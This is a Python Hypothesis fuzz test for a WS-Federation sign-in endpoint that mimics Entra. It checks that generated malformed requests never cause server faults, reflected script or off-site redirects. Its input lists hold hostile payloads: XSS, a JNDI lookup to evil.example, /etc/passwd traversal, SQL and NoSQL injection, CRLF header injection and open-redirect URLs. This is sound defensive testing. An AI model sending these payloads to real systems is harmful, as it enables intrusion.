"""Entra's address under generated requests: whatever comes, the answer is a page or a redirect, and no fault of ours.

300 requests in every run, 20,000 in `make test-long`. Hypothesis makes one that fails as small as it can.
"""

import asyncio
import re
from collections import Counter
from contextlib import AsyncExitStack
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from services.wsfed.domain.request import WAUTH_MULTIPLE_AUTHN
from shared.clouds import CLOUDS
from tests.flows.support import ADA, start_flow
from tests.wsfed.raw_http import FORM, WSFED, Answer, ask, assert_safe

CLOUD = CLOUDS["worldwide"]

SCRIPT = "\"'><script>alert(1)</script>"
GOOD = {
    "wa": ("wsignin1.0", "wsignout1.0", "wsignoutcleanup1.0"),
    "wtrealm": (CLOUD.realm,),
    "wreply": CLOUD.reply_urls,
    "wctx": ("LoginOptions=3&estsredirect=2&estsrequest=rQQIARAA",),
    "wfresh": ("0", "60"),
    "wauth": (WAUTH_MULTIPLE_AUTHN,),
    "mfa_max_age": ("3600",),
    "username": (ADA, "nobody@contoso.example"),
    "login_hint": (ADA, "CONTOSO\\ada"),
    "prompt": ("login", "none"),
    "mkt": ("fr-FR", "en-GB"),
    "lc": ("1036",),
    "client-request-id": ("5d1f7f7e-0000-4000-8000-000000000001",),
}
NAMES = st.sampled_from([*GOOD, "wct", "wp", "wreq", "cbcxt", "popupui", "", "WA", "wa[]", "wa\0"]) | st.text(
    max_size=12
)
HOSTILE = st.sampled_from(
    [
        *("", " ", "\0", "\r\nSet-Cookie: a=b", "\x7f", "\ufffd", "\u202eevil", "\ud800", "💥" * 40),
        *(SCRIPT, "{{7*7}}", "${jndi:ldap://evil.example}", "../../etc/passwd", "' or 1=1 --", "$ne"),
        *("https://evil.example/", "//evil.example", "javascript:alert(1)", CLOUD.reply_urls[0] + "#"),
        *("-1", "1e9", "9" * 40, "0x10", "٣", "NaN", "true"),
    ]
)
VALUES = (
    HOSTILE | st.text(max_size=80) | st.builds(lambda s, n: s * n, st.text(max_size=3), st.integers(0, 9_000))
)


@st.composite
def parameters(draw: st.DrawFn) -> bytes:
    """Query or form, in octets: what Entra sends, with some of it changed, doubled, broken or left out."""
    pairs = [(name, draw(st.sampled_from(values))) for name, values in GOOD.items() if draw(st.booleans())]
    if draw(st.integers(0, 3)):  # a real sign-in, more often than not
        pairs = [("wa", "wsignin1.0"), ("wtrealm", CLOUD.realm)] + [
            p for p in pairs if p[0] not in ("wa", "wtrealm")
        ]
    pairs += draw(st.lists(st.tuples(NAMES, VALUES), max_size=draw(st.sampled_from([0, 1, 3, 80]))))
    pairs = draw(st.permutations(pairs)) if draw(st.booleans()) else pairs
    encode = draw(st.sampled_from([quote, quote_plus]))
    octets = [
        b"=".join(encode(part.encode("utf-8", "surrogatepass"), safe="").encode() for part in pair)
        for pair in pairs
    ]
    octets += draw(
        st.lists(
            st.sampled_from(
                [b"%", b"%zz", b"a=%ff", b"wa=%ed%a0%80", b"=", b"&", b"a", b";wa=x", b"wctx=\xe9"]
            )
            | st.binary(max_size=20).map(lambda raw: raw.translate(None, b" \r\n\t")),
            max_size=draw(st.sampled_from([0, 0, 1, 3])),
        )
    )
    return b"&".join(octets)


def _lines(name: str, *values: str) -> st.SearchStrategy[str]:
    return st.sampled_from(values).map(lambda value: f"{name}: {value}")


LINES = st.lists(
    _lines("Cookie", f"__Host-blok365-browser={'A' * 43}", "__Host-blok365-browser=", "a=b; ;;=", "=\x80")
    | _lines("Accept", "text/html", "application/json", "*/*", "application/problem+json;q=x")
    | _lines("Accept-Language", "fr", "xx-yy;q=2", "*", SCRIPT)
    | _lines("Referer", "https://login.microsoftonline.com/", "https://[", "null", SCRIPT)
    | _lines("Sec-Fetch-Site", "same-origin", "cross-site", "x")
    | _lines("X-Forwarded-For", "198.51.100.1", "198.51.100.1:99", "127.0.0.1, ,", SCRIPT)
    | _lines("User-Agent", "", SCRIPT, "Mozilla/5.0 (Windows NT 10.0) Firefox/140.0")
    | _lines("Expect", "nonsense")
    | _lines("If-None-Match", "*", '"x"', "broken"),
    max_size=4,
)
PATHS = st.sampled_from(
    [WSFED] * 12
    + ["/t/nobody/wsfed", "/t/CONTOSO/wsfed", "/t//wsfed", "/t/contoso/wsfed/", "/t/%63ontoso/wsfed"]
    + ["/t/contoso%00/wsfed", "//t/contoso/wsfed", "/t/contoso/../contoso/wsfed", "/t/$ne/wsfed"]
    + ["/t/contoso%0d%0aSet-Cookie:a=b/wsfed", "/t/%2f%2fevil.example/wsfed", "/t/%3f%23/wsfed"]
)


@dataclass(frozen=True)
class Sent:
    """One generated request."""

    method: str
    path: str
    parameters: bytes
    content_type: str
    lines: tuple[str, ...]


REQUESTS = st.builds(
    Sent,
    method=st.sampled_from(["GET"] * 6 + ["POST"] * 4 + ["HEAD", "PUT", "DELETE", "OPTIONS", "TRACE", "wA"]),
    path=PATHS,
    parameters=parameters(),
    content_type=st.sampled_from(
        [FORM] * 6 + ["", "application/json", "multipart/form-data", f"{FORM}; charset=utf-16", "x/y/z"]
    ),
    lines=LINES.map(tuple),
)


def assert_answer(answer: Answer) -> None:
    """No fault of ours, nothing repeated as markup, nobody led away."""
    assert answer.status < 500, answer.text
    assert_safe(answer)
    assert "<script>alert" not in answer.text
    if 300 <= answer.status < 400:
        to = answer.header("location")
        # A POST of sign-out is asked for again by GET under the name that it had, also where nobody has that name.
        our_own = to.startswith("/signin/") or re.match(r"/t/[\w%.~-]+/wsfed\?wa=wsignout", to, re.ASCII)
        assert our_own or to in CLOUD.reply_urls


@pytest.mark.long
@pytest.mark.timeout(1800)
@pytest.mark.parametrize("examples", [300, pytest.param(20_000, marks=pytest.mark.slow)])
def test_no_request_of_anybodys_is_a_fault_of_ours(tmp_path: Path, examples: int) -> None:
    seen: Counter[int] = Counter()
    with asyncio.Runner() as runner:
        stack = AsyncExitStack()
        flow = runner.run(stack.enter_async_context(start_flow(tmp_path)))

        async def send(sent: Sent) -> None:
            in_body = sent.method not in ("GET", "HEAD")
            # Over our limits, but no more than a socket holds: a refusal before all was read resets the connection.
            octets = sent.parameters[: 70_000 if in_body else 24_000]
            target = sent.path.encode() + (b"" if in_body else b"?" + octets)
            lines = sent.lines
            if in_body:
                lines += (f"Content-Type: {sent.content_type}", f"Content-Length: {len(octets)}")
            answer = await ask(flow, target, method=sent.method, body=octets if in_body else b"", lines=lines)
            assert_answer(answer)
            seen[answer.status] += 1
            event(f"{sent.method} {answer.status}")
            if answer.status == 303 and answer.header("location").startswith("/signin/"):
                cookies = [value.partition(";")[0] for name, value in answer.headers if name == "set-cookie"]
                page = await ask(
                    flow, answer.header("location"), lines=(*sent.lines, f"Cookie: {'; '.join(cookies)}")
                )
                assert_answer(page)

        @settings(max_examples=examples, suppress_health_check=list(HealthCheck), database=None)
        @given(REQUESTS)
        def check(sent: Sent) -> None:
            runner.run(send(sent))

        try:
            check()
        finally:
            runner.run(stack.aclose())
    # The generator reaches the sign-in as well as its refusals.
    assert seen[303] > examples / 20, seen
    assert seen[400] > examples / 20, seen
    assert {404, 405} <= set(seen)
